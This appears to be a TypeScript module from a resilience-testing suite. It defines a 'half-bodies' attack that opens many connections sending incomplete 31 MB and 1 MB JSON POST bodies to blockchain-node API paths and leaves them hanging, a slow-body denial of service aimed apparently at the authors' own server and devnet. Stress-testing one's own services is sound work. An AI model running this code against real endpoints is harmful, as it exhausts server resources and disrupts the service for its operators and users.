import type { Attack } from "../attack.ts";
import { headOf } from "../wire.ts";

const LARGE = 60;
const SMALL = 900;
const PATHS = ["/ext/bc/P", "/ext/bc/C/rpc", "/v1/networks/fuji/blockchains/p-chain/utxos"];

export const halfBodies: Attack = {
  name: "half-bodies",
  does: "60 connections send all but the end of 31 MB, 900 all but the end of 1 MB, and wait",
  targets: ["serve", "devnet"],
  async run(attacker) {
    const send = async (index: number, length: number) => {
      const socket = await attacker.connect();
      const path = PATHS[index % PATHS.length]!;
      socket?.write(headOf("POST", path, ["Content-Type: application/json", `Content-Length: ${length}`]));
      socket?.write(`{"a":"${"x".repeat(length - 100)}`);
    };
    await Promise.all(Array.from({ length: LARGE }, (_, index) => send(index, 31_000_000)));
    for (let sent = 0; sent < SMALL && !attacker.isOver(); sent++) {
      await send(sent, 1_000_000);
    }
    await attacker.wait();
  },
};
